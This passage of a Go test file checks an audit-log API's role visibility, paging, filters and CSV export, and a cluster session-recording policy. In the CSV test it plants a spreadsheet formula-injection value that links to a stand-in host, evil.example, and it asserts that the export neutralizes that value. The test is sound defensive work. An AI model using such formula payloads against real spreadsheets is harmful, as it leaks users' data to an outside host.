	base := time.Date(2026, 11, 15, 14, 13, 0, 0, time.UTC)
	var evs []*store.AuditEvent
	for i := range 30 {
		proj, cluster := e.project.ID, "web-1"
		if i%3 == 0 {
			proj, cluster = other.ID, "data-1"
		}
		evs = append(evs, &store.AuditEvent{ID: fmt.Sprintf("e%02d", i), At: base.Add(time.Duration(i) * time.Second), OrgID: e.org.ID,
			ProjectID: proj, Kind: "kube", Node: "node-1", User: "john", Cluster: cluster, Verb: []string{"list", "get"}[i%2],
			Resource: "pods", Status: 200, Body: []byte(fmt.Sprintf(`{"id":"e%02d","cluster":%q}`, i, cluster))})
	}
	must(t, e.store.InsertAuditEvents(ctx, evs))
	search := func(token, query string) ([]string, string, int) {
		t.Helper()
		r := e.do("GET", "/api/v1/audit?"+query, token, "", nil)
		if r.code != 200 {
			return nil, "", r.code
		}
		var page api.AuditPage
		must(t, json.Unmarshal(r.body, &page))
		var ids []string
		for _, raw := range page.Items {
			var ev struct {
				ID string `json:"id"`
			}
			must(t, json.Unmarshal(raw, &ev))
			ids = append(ids, ev.ID)
		}
		return ids, page.Continue, 200
	}
	all := func(token, query string) []string {
		t.Helper()
		var out []string
		for cont := ""; ; {
			q := query
			if cont != "" {
				q += "&continue=" + cont
			}
			ids, next, code := search(token, q)
			if code != 200 {
				t.Fatalf("search %q: %d", q, code)
			}
			out = append(out, ids...)
			if next == "" {
				return out
			}
			cont = next
		}
	}
	var golden strings.Builder
	for _, who := range []struct{ name, token string }{{"ADMIN", e.admin}, {"PROJECT_READ_ONLY of web", e.viewer}} {
		ids := all(who.token, "limit=4")
		fmt.Fprintf(&golden, "%s: %d events, newest %s, oldest %s\n", who.name, len(ids), ids[0], ids[len(ids)-1])
	}
	if _, _, code := search(ns, ""); code != 403 {
		t.Fatalf("a namespace role searched: %d", code)
	}
	want := "ADMIN: 30 events, newest e29, oldest e00\nPROJECT_READ_ONLY of web: 20 events, newest e29, oldest e01\n"
	if golden.String() != want {
		t.Fatalf("what each role sees:\n%s\nwant:\n%s", golden.String(), want)
	}
	// Filters.
	if ids := all(e.admin, "cluster=data-1&verb=get"); len(ids) != 5 {
		t.Fatalf("cluster data-1, verb get: %v", ids)
	}
	from, to := base.Add(10*time.Second).Format(time.RFC3339), base.Add(20*time.Second).Format(time.RFC3339)
	if ids := all(e.admin, "from="+from+"&to="+to); len(ids) != 10 || ids[0] != "e19" || ids[9] != "e10" {
		t.Fatalf("a time range: %v", ids)
	}
	if r := e.do("GET", "/api/v1/audit?limit=5000", e.admin, "", nil); r.code != 400 || r.problem(t)["field"] != "limit" {
		t.Fatalf("limit 5000: %d", r.code)
	}
	if r := e.do("GET", "/api/v1/audit?continue=bogus", e.admin, "", nil); r.code != 400 {
		t.Fatalf("a bogus cursor: %d", r.code)
	}
	// CSV.
	r := e.do("GET", "/api/v1/audit?format=csv&limit=3", e.admin, "", nil)
	lines := strings.Split(strings.TrimSpace(string(r.body)), "\n")
	if r.code != 200 || !strings.HasPrefix(r.ct, "text/csv") || len(lines) != 4 || !strings.HasPrefix(lines[0], "time,id,kind") {
		t.Fatalf("csv: %d %s\n%s", r.code, r.ct, r.body)
	}
	// A name a spreadsheet would read as a formula (anyone may send such
	// a path) is written as text.
	formula := `=HYPERLINK("https://evil.example/?"&A1,"click")`
	must(t, e.store.InsertAuditEvents(ctx, []*store.AuditEvent{{ID: "e99", At: base.Add(time.Hour), OrgID: e.org.ID, ProjectID: e.project.ID,
		Kind: "kube", Node: "node-1", User: "+mallory", Cluster: "web-1", Verb: "get", Resource: "pods", Name: formula, Status: 403, Body: []byte(`{"id":"e99"}`)}}))
	r = e.do("GET", "/api/v1/audit?format=csv&limit=1", e.admin, "", nil)
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil || len(rows) != 2 || rows[1][1] != "e99" {
		t.Fatalf("csv: %v\n%s", err, r.body)
	}
	if rows[1][4] != "'+mallory" || rows[1][10] != "'"+formula || rows[1][6] != "web-1" {
		t.Fatalf("formula cells not neutralized: %q", rows[1])
	}
}

func TestClusterRecordingPolicyAndRecordings(t *testing.T) {
	e := newEnv(t)
	ctx := context.Background()
	// The policy: set at creation, changed by an update, refused when bad.
	r := e.post("/api/v1/clusters", e.admin, map[string]any{"name": "web-1", "project": "web", "sessionRecording": []string{"cluster-admin"}})
	if r.code != http.StatusCreated {
		t.Fatalf("create: %d %s", r.code, r.body)
	}
	if r := e.post("/api/v1/clusters", e.admin, map[string]any{"name": "web-2", "project": "web", "sessionRecording": []string{"Not A Role"}}); r.code != 400 || r.problem(t)["field"] != "sessionRecording" {
		t.Fatalf("a bad policy: %d %s", r.code, r.body)
	}
	var cl api.Cluster
	must(t, json.Unmarshal(e.do("GET", "/api/v1/clusters/web-1", e.admin, "", nil).body, &cl))
	if len(cl.SessionRecording) != 1 || cl.SessionRecording[0] != "cluster-admin" {
		t.Fatalf("cluster %+v", cl)
	}
	put := func(token string, c api.Cluster) response {
		b, _ := json.Marshal(map[string]any{"name": c.Name, "project": c.Project, "description": c.Description, "sessionRecording": c.SessionRecording, "version": c.Version})
		return e.do("PUT", "/api/v1/clusters/web-1", token, "application/json", b)
	}
	cl.SessionRecording = []string{"*"}
	if r := put(e.viewer, cl); r.code != http.StatusForbidden {
		t.Fatalf("a read-only member changed the policy: %d", r.code)
	}
	if r := put(e.admin, cl); r.code != 200 {
		t.Fatalf("update: %d %s", r.code, r.body)
	}
	if r := put(e.admin, cl); r.code != http.StatusConflict {
		t.Fatalf("an update with a stale version: %d", r.code)
	}
	stored, err := e.store.GetCluster(ctx, "web-1")
	must(t, err)
	if len(stored.RecordRoles) != 1 || stored.RecordRoles[0] != "*" {
		t.Fatalf("stored %v", stored.RecordRoles)
	}
	access := &control.Access{Store: e.store}
	if roles, err := access.RecordRoles(ctx, "web-1"); err != nil || len(roles) != 1 || roles[0] != "*" {
		t.Fatalf("the node's view: %v %v", roles, err)
	}
	// A cluster's or project's admin, whose sessions are recorded, may
	// not record fewer people (only an organization admin may); recording
	// more is theirs to choose.
	must(t, json.Unmarshal(e.do("GET", "/api/v1/clusters/web-1", e.admin, "", nil).body, &cl))
	for _, role := range []string{"CLUSTER_ADMIN", "PROJECT_ADMIN"} {
		token := e.person(strings.ToLower(role)+"@acme.test", role, e.project.ID)
		for _, fewer := range [][]string{nil, {"cluster-admin"}} {
			c := cl
			c.SessionRecording = fewer
			if r := put(token, c); r.code != http.StatusForbidden || !strings.Contains(string(r.body), "cluster.recording") {
				t.Fatalf("%s recorded fewer (%v): %d %s", role, fewer, r.code, r.body)
			}
		}
		c := cl
		c.Description = "described by " + role
		if r := put(token, c); r.code != 200 {
			t.Fatalf("%s changed the description: %d %s", role, r.code, r.body)
		}
		must(t, json.Unmarshal(e.do("GET", "/api/v1/clusters/web-1", e.admin, "", nil).body, &cl))
		if cl.Description != c.Description || len(cl.SessionRecording) != 1 || cl.SessionRecording[0] != "*" {
			t.Fatalf("after %s's update: %+v", role, cl)
		}
	}
	cl.SessionRecording = []string{"cluster-admin"}
	if r := put(e.admin, cl); r.code != 200 {
		t.Fatalf("an organization admin recorded fewer: %d %s", r.code, r.body)
	}
	must(t, json.Unmarshal(e.do("GET", "/api/v1/clusters/web-1", e.admin, "", nil).body, &cl))
	cl.SessionRecording = []string{"cluster-admin", "edit"}
	if r := put(e.person("more@acme.test", "CLUSTER_ADMIN", e.project.ID), cl); r.code != 200 {
		t.Fatalf("a cluster admin recorded more: %d %s", r.code, r.body)
	}

	// Recordings: read whole, in order, by who may search the cluster's
	// events; a namespace role and another organization get 404.
	cast := "{\"version\":2,\"width\":80,\"height\":24}\n[0.1,\"o\",\"hi\"]\n"
	chunks := []*store.RecordingChunk{
		{OrgID: e.org.ID, ProjectID: e.project.ID, Recording: "rec-1", Seq: 1, Cluster: "web-1", Data: cast[20:], Final: true, At: time.Now()},
		{OrgID: e.org.ID, ProjectID: e.project.ID, Recording: "rec-1", Seq: 0, Cluster: "web-1", Data: cast[:20], At: time.Now()},
	}
	must(t, e.store.InsertRecordingChunks(ctx, chunks))
	must(t, e.store.InsertRecordingChunks(ctx, chunks)) // read twice from the topic: no harm
	must(t, e.store.InsertRecordingChunks(ctx, []*store.RecordingChunk{{OrgID: e.org.ID, ProjectID: e.project.ID, Recording: "rec-2", Seq: 0, Cluster: "web-1", Data: cast[:20]}}))
	for _, who := range []struct{ name, token string }{{"ADMIN", e.admin}, {"PROJECT_READ_ONLY", e.viewer}} {
		r := e.do("GET", "/api/v1/audit/recordings/rec-1", who.token, "", nil)
		if r.code != 200 || string(r.body) != cast || r.ct != "application/x-asciicast" {
			t.Fatalf("%s: %d %s %q", who.name, r.code, r.ct, r.body)
		}
	}
	ns := e.person("ns@acme.test", "NAMESPACE_READ_ONLY", e.project.ID)
	if r := e.do("GET", "/api/v1/audit/recordings/rec-1", ns, "", nil); r.code != 404 {
		t.Fatalf("a namespace role read a recording: %d", r.code)
	}
	if r := e.do("GET", "/api/v1/audit/recordings/nope", e.admin, "", nil); r.code != 404 {
		t.Fatalf("an unknown recording: %d", r.code)
	}
	rec, err := e.store.GetRecording(ctx, e.org.ID, "rec-2")
	must(t, err)
	if rec.Complete || rec.Data != cast[:20] {
		t.Fatalf("a recording still running: %+v", rec)
	}
	if _, err := e.store.GetRecording(ctx, "other-org", "rec-1"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("another organization's recording: %v", err)
	}
	// Retention takes recordings too.
	if _, err := e.store.DeleteAuditBefore(ctx, time.Now().Add(time.Hour), 100); err != nil {
		t.Fatal(err)
	}
	if _, err := e.store.GetRecording(ctx, e.org.ID, "rec-1"); !errors.Is(err, store.ErrNotFound) {
		t.Fatalf("a recording outlived retention: %v", err)
	}
}
